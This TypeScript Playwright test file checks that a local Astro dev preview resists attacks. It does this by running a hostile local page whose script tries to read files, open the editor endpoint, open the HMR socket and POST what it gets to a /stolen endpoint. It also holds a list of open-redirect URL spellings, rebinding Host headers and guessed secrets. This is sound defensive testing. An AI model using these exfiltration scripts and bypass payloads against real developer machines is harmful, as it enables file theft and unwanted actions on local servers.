import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createInterface } from 'node:readline';
import { expect, test } from '@playwright/test';

// The preview of `npm run dev` itself, and a hostile site on another port of this machine.

// One preview for all of them.
test.describe.configure({ mode: 'default' });

const WORDS = 'data/words.txt';

let preview: ChildProcess;
let port = 0;
let hostile: Server;
let hostilePort = 0;
/** What the hostile site’s script reported from whatever page it ran on. */
const stolen: string[] = [];

/** Runs on the hostile page, and on any page of the preview that would hand it over as one of its own. */
const script = (own: string) => `
	const tell = (what) => fetch('${own}/stolen', { method: 'POST', mode: 'no-cors', body: what });
	tell('ran on ' + location.origin);
	const at = location.origin === '${own}' ? new URLSearchParams(location.search).get('preview') : location.origin;
	for (const path of ['/package.json?raw', '/@vite/client', '/guides/sre/'])
		fetch(at + path).then((answer) => answer.text()).then((text) => text && tell('read ' + path), () => {});
	for (const mode of ['cors', 'no-cors']) {
		fetch(at + '/__open-in-editor?file=package.json', { mode }).then((answer) => answer.ok && tell('opened a file'), () => {});
		fetch(at + '/__preview/mend', { mode, method: 'POST', body: '{"does":"word","of":"x"}' }).then((answer) => answer.ok && tell('mended'), () => {});
	}
	const socket = new WebSocket(at.replace('http', 'ws'), 'vite-hmr');
	socket.onopen = () => tell('opened the socket');
`;

test.beforeAll(async () => {
	hostile = createServer((asked, answer) => {
		if (asked.method === 'POST') {
			asked.setEncoding('utf8').on('data', (what: string) => stolen.push(what));
			return void asked.on('end', () => answer.end());
		}
		answer.writeHead(200, { 'content-type': 'text/html' });
		const link = `<a href="http://localhost:${port}//127.0.0.1:${hostilePort}/x/">See the pay guide</a>`;
		answer.end(
			`<!doctype html><html><title>Lure</title>${link}<iframe src="http://localhost:${port}/guides/"></iframe><script>${script(`http://127.0.0.1:${hostilePort}`)}</script></html>`,
		);
	}).listen(0, '127.0.0.1');
	await once(hostile, 'listening');
	hostilePort = (hostile.address() as AddressInfo).port;
	preview = spawn('node', ['-e', "import('astro').then(({ dev }) => dev({ server: { port: 0 } }))"], {
		env: { ...process.env, SITE_URL: '', ASTRO_TELEMETRY_DISABLED: '1', LAUNCH_EDITOR: 'true' },
		stdio: ['ignore', 'pipe', 'inherit'],
	});
	for await (const line of createInterface({ input: preview.stdout ?? process.stdin })) {
		const [, found] = /http:\/\/localhost:(\d+)\//.exec(line) ?? [];
		if (found === undefined) continue;
		port = Number(found);
		break;
	}
	preview.stdout?.resume();
});

test.afterAll(() => {
	preview.kill();
	hostile.close();
});

/** What the preview answers to a request as it goes over the wire: no library makes its target another. */
const askRaw = (path: string, headers: Record<string, string> = {}, method = 'GET') =>
	new Promise<{ status: number; text: string }>((done, fail) => {
		const asked = request(
			{ host: 'localhost', port, path, method, headers: { accept: 'text/html', ...headers } },
			(answer) => {
				let text = '';
				answer.setEncoding('utf8').on('data', (chunk: string) => (text += chunk));
				answer.on('end', () => done({ status: answer.statusCode ?? 0, text }));
			},
		);
		asked.on('error', fail).end();
	});

test('a page of another site neither runs its script as the preview nor reads, opens or writes anything', async ({
	page,
}) => {
	const words = readFileSync(WORDS, 'utf8');
	await page.goto(`http://127.0.0.1:${hostilePort}/lure?preview=http://localhost:${port}`);
	expect(page.frames().filter((frame) => frame.url().startsWith(`http://localhost:${port}`))).toEqual([]);
	await page.getByRole('link', { name: 'See the pay guide' }).click();
	await expect(page.locator('body')).toContainText('could be taken for another host');
	// A page of the preview, so that whatever the lure began has had its time.
	await page.goto(`http://localhost:${port}/guides/`);
	await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
	expect(stolen).toEqual([`ran on http://127.0.0.1:${hostilePort}`]);
	expect(readFileSync(WORDS, 'utf8')).toBe(words);
});

test('no spelling of another host is fetched, and no name but those of this machine is answered', async () => {
	const away = `127.0.0.1:${hostilePort}`;
	const spellings = [
		`//${away}/x/`,
		`///${away}/x/`,
		`/\\${away}/x/`,
		`/\\/${away}/x/`,
		`/%2f${away}/x/`,
		`/%5c${away}/x/`,
		`/%2F%2F${away}/x/`,
		`//localhost:${hostilePort}/x/`,
		`//[::1]:${hostilePort}/x/`,
		`//0x7f.1:${hostilePort}/x/`,
		`//2130706433:${hostilePort}/x/`,
		`http://${away}/x/`,
		`HTTP://${away}/x/`,
		`//x@${away}/x/`,
		`/.//${away}/x/`,
		`/guides/..//${away}/x/`,
		`/guides//${away}/x/`,
		`/guides/%2e%2e//${away}/x/`,
		`/;//${away}/x/`,
		`/?//${away}/x/`,
	];
	for (const path of spellings) expect((await askRaw(path)).text, path).not.toContain('Lure');
	for (const host of ['rebind.evil.example', 'evil.example:80', `localhost.evil.example:${port}`])
		expect((await askRaw('/guides/', { host })).status, host).toBe(403);
});

test('what the preview can do asks for the secret of this run, the same origin and a name of this machine', async () => {
	const own = { origin: `http://localhost:${port}`, 'sec-fetch-site': 'same-origin' };
	for (const path of ['/__open-in-editor?file=package.json', '/__open-in-editor/?file=package.json', '/__preview/mend'])
		for (const headers of [{}, own, { ...own, 'x-preview-secret': 'a guess' }])
			expect((await askRaw(path, headers, path.endsWith('mend') ? 'POST' : 'GET')).status, path).toBe(403);
	const html = (await askRaw('/guides/')).text;
	const [, address = ''] = /<script[^>]+src="([^"]*astro:scripts\/page[^"]*)"/.exec(html) ?? [];
	const [, secret = ''] = /start\(["']([0-9a-f]{64})["']\)/.exec((await askRaw(address, { accept: '*/*' })).text) ?? [];
	expect(secret).not.toBe('');
	const asked = { ...own, 'x-preview-secret': secret };
	expect((await askRaw('/__open-in-editor?file=package.json', asked)).status).toBe(200);
	for (const wrong of [
		{ 'sec-fetch-site': 'cross-site' },
		{ 'sec-fetch-site': 'same-site' },
		{ origin: 'http://localhost:9999' },
	])
		expect((await askRaw('/__open-in-editor?file=package.json', { ...asked, ...wrong })).status).toBe(403);
});
